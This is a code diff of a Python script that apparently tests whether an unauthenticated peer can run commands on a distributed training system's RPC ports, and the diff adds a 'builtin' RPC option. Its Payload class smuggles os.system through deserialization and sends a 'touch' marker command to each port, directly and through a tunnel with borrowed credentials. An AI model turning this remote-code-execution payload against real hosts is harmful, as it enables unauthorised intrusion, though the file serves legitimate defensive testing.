@@ -1,7 +1,7 @@
-"""Attacks a host from another one: `unauthenticated_peer.py MARKER HOST TUNNEL_PORT PORT...`.
+"""Attacks: `unauthenticated_peer.py SUBSTRATE MARKER HOST TUNNEL_PORT PORT...`, on another host.
 
-It sends a Courier call that would make a file there to each port of the host; and the same through
-the host's tunnel, with another program's credentials.
+It sends a call to each port of the host, and the same through the host's tunnel, with another
+program's credentials. Courier's calls would make a file there; builtin ones have a wrong key.
 """
 
 import os
@@ -9,8 +9,9 @@ import sys
 import tempfile
 import time
 from pathlib import Path
+from typing import Any
 
-import courier
+from distrl.programs.substrate import BUILTIN, rpc
 
 METHODS = ("get_variables", "report", "state", "inference", "run")
 
@@ -23,11 +24,20 @@ class Payload:
         return os.system, (self._command,)
 
 
-def send(address: str, command: str) -> None:
+def client_of(substrate: str, address: str) -> Any:
+    if substrate == BUILTIN:
+        return rpc.Client(address, "of a stranger", timeout=1.0)
+    import courier
+
+    return courier.Client(address, call_timeout=1.0, wait_for_ready=False)
+
+
+def send(substrate: str, address: str, command: str) -> None:
+    payload = command if substrate == BUILTIN else unauthenticated_peer.Payload(command)
     for method in METHODS:
-        client = courier.Client(address, call_timeout=1.0, wait_for_ready=False)
+        client = client_of(substrate, address)
         try:
-            getattr(client, method)(unauthenticated_peer.Payload(command))
+            getattr(client, method)(payload)
             print(address, method, "answered")
         except Exception as error:
             print(address, method, str(error)[:100])
@@ -39,7 +49,7 @@ if __name__ == "__main__":
     from distrl.launch.network.credentials import make_credentials
     from distrl.launch.network.tunnel_process import end_tunnel, start_tunnel
 
-    marker, host, tunnel_port, *ports = sys.argv[1:]
+    substrate, marker, host, tunnel_port, *ports = sys.argv[1:]
     folder = Path(tempfile.mkdtemp(prefix="peer-"))
     forwards = {
         str(folder / port): (host, int(tunnel_port), int(port)) for port in [*ports, tunnel_port]
@@ -52,8 +62,8 @@ if __name__ == "__main__":
     while not all(Path(path).exists() for path in forwards) and time.monotonic() < deadline:
         time.sleep(0.05)
     for port in [*ports, tunnel_port]:
-        send(f"{host}:{port}", f"touch {marker}.{port}")
-        send(f"unix:{folder}/{port}", f"touch {marker}.{port}.tunnel")
+        send(substrate, f"{host}:{port}", f"touch {marker}.{port}")
+        send(substrate, f"unix:{folder}/{port}", f"touch {marker}.{port}.tunnel")
     end_tunnel(tunnel)
     print("done", flush=True)
     os._exit(0)
